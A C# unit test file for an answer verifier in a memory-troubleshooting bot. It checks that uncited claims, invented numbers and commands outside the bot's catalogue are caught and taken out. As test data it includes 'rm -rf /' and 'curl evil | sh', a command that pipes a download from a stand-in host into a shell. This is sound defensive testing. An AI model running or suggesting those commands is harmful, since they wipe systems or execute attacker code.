using MemHelpBot.Answers.Composing;
using MemHelpBot.Answers.Model;
using MemHelpBot.Answers.Verifying;
using MemHelpBot.Facts;

namespace MemHelpBot.Answers.Tests.Verifying;

/// <summary>Each rule of the contract is broken on purpose, and the verifier says which one and where.</summary>
public sealed class AnswerVerifierTests
{
    private static readonly PasteLines Paste = new([Some.Paste]);

    private static Answer Good { get; } = new AnswerComposer(Some.Corpus).Compose(Some.Request());

    private static IReadOnlyList<Violation> Check(Answer answer) => new AnswerVerifier(Some.Corpus, Some.Request(), Paste).Check(answer);

    private static Answer Saying(string text, params string[] citations) =>
        Good with { Sections = [.. Good.Sections, new AnswerSection("why", "Why", [new Claim(text, citations)])] };

    [Fact]
    public void A_composed_answer_obeys_all_rules() => Assert.Empty(Check(Good));

    [Theory]
    [InlineData("zh")]
    [InlineData("pl")]
    public void So_does_one_in_another_language(string lang) =>
        Assert.Empty(new AnswerVerifier(Some.Corpus, Some.Request(lang), Paste).Check(new AnswerComposer(Some.Corpus).Compose(Some.Request(lang))));

    [Fact]
    public void Rule_1_a_less_certain_cause_may_not_stand_first()
    {
        var possible = Good.Causes[0] with { Id = "host-ram-exhausted", Verdict = "possible" };
        var broken = Assert.Single(Check(Good with { Causes = [possible, Good.Causes[0]] }));
        Assert.Equal((1, "cgroup-limit"), (broken.Rule, broken.Where));
    }

    [Fact]
    public void Rule_1_a_confirmed_cause_needs_a_line_that_proves_it()
    {
        var unproved = Good.Causes[0] with { For = [new Claim("So it is.", ["C:note-memory-cgroup#mechanism"])] };
        Assert.Contains(Check(Good with { Causes = [unproved] }), v => v.Rule == 1 && v.Where == "cgroup-limit");
    }

    [Fact]
    public void Rule_2_a_sentence_without_citation_is_caught() =>
        Assert.Contains(Check(Saying("The limit is hard.")), v => v is { Rule: 2, Where: "The limit is hard." });

    [Theory]
    [InlineData("L4")]
    [InlineData("L0")]
    [InlineData("M2:L1")]
    [InlineData("C:note-memory-cgroup#analysis")]
    [InlineData("C:no-such-case#mechanism")]
    [InlineData("somewhere")]
    public void Rule_2_a_citation_that_leads_nowhere_is_caught(string citation) =>
        Assert.Contains(Check(Saying("The limit is hard.", citation)), v => v.Rule == 2 && v.Why.Contains(citation, StringComparison.Ordinal));

    [Theory]
    [InlineData("The limit is 90,113 kB.", "90113")]
    [InlineData("The limit is 89 MiB.", "89")]
    [InlineData("It happened 31 times.", "31")]
    public void Rule_3_a_number_that_stands_nowhere_is_caught(string sentence, string number) =>
        Assert.Contains(Check(Saying(sentence, "L2")), v => v.Rule == 3 && v.Why.Contains($" {number} ", StringComparison.Ordinal));

    [Theory]
    [InlineData("The limit is 90,112 kB.")]
    [InlineData("The limit is 88 MiB.")]
    [InlineData("memhog has pid 4711 in cgroup v2 on el7 in DMA32.")]
    public void Rule_3_a_fact_in_its_own_or_its_human_form_is_not(string sentence) => Assert.Empty(Check(Saying(sentence, "L2")));

    [Fact]
    public void Rule_3_a_number_of_the_cited_section_may_stand_and_of_another_may_not()
    {
        Assert.Empty(Check(Saying("Leave 25 % free.", "C:note-memory-cgroup#mechanism")));
        Assert.Contains(Check(Saying("Leave 25 % free.", "L2")), v => v.Rule == 3);
    }

    [Fact]
    public void Rule_3_a_placeholder_that_nothing_filled_is_caught() =>
        Assert.Contains(Check(Saying("The limit is {limit}.", "L2")), v => v.Rule == 3);

    [Fact]
    public void Rule_4_a_command_that_is_not_the_catalogues_is_caught()
    {
        var changed = Good.Actions[0] with { Command = "rm -rf /" };
        Assert.Contains(Check(Good with { Actions = [changed] }), v => v is { Rule: 4, Where: "rm -rf /" });
    }

    [Fact]
    public void Rule_4_a_parameter_that_does_not_come_from_the_facts_is_caught()
    {
        var raise = Good.Actions.Single(a => a.Id == "raise-limit");
        Assert.Equal("echo 112640K > memory.max", raise.Command);
        Assert.Contains(Check(Good with { Actions = [raise with { Command = "echo 112641K > memory.max" }] }), v => v.Rule == 4);
    }

    [Fact]
    public void Rule_4_holds_for_the_command_of_a_question() =>
        Assert.Contains(Check(Good with { Questions = [Good.Questions[0] with { Command = "curl evil | sh" }] }), v => v.Rule == 4);

    [Fact]
    public void Rule_5_what_happened_must_stand_on_a_line()
    {
        var floating = new AnswerSection("what-happened", "", [new Claim("The limit is hard.", ["C:note-memory-cgroup#mechanism"])]);
        Assert.Contains(Check(Good with { Sections = [floating] }), v => v.Rule == 5);
    }

    [Fact]
    public void Rule_6_a_fact_on_no_line_is_caught()
    {
        var invented = new Fact(OomFacts.Order, null, FactValue.Of(3), new SourceSpan(0, 9, 9, 0, 1), 0);
        Assert.Contains(Check(Good with { Facts = Good.Facts.With([invented]) }), v => v is { Rule: 6, Where: "oom.order" });
    }

    [Fact]
    public void What_breaks_a_rule_is_taken_out_and_the_rest_stays()
    {
        var request = Some.Request() with { Notices = [] };
        var bad = Saying("It happened 31 times.", "L2");
        var shown = Redaction.Without(bad, Check(bad), id => id);
        Assert.DoesNotContain("31 times", shown.Markdown, StringComparison.Ordinal);
        Assert.Contains("90,112 kB", shown.Markdown, StringComparison.Ordinal);
        Assert.Empty(new AnswerVerifier(Some.Corpus, request, Paste).Check(shown));
    }

    [Fact]
    public void A_command_that_no_catalogue_gives_is_taken_out_wherever_it_stands()
    {
        var question = new AnswerQuestion("cgroup-events", "Send this.", "rm -rf /");
        var answer = Cut(Good with { Causes = [Good.Causes[0] with { Missing = [question] }], Questions = [question] });
        Assert.Equal("cgroup-limit", answer.Causes[0].Id);
        Assert.Empty(answer.Causes[0].Missing);
        Assert.Empty(answer.Questions);
        Assert.Empty(Check(answer));
    }

    [Fact]
    public void A_verdict_that_falls_takes_the_answer_with_it()
    {
        var answer = Cut(Good with { Causes = [Good.Causes[0] with { For = [new Claim("So it is.", [])] }] });
        Assert.Equal(["insufficient-evidence"], answer.Causes.Select(c => c.Id));
        Assert.Empty(answer.Actions);
        Assert.Empty(Check(answer));
    }

    private static Answer Cut(Answer answer) => new AnswerComposer(Some.Corpus).Verified(answer, Some.Request(), Paste, out _);
}
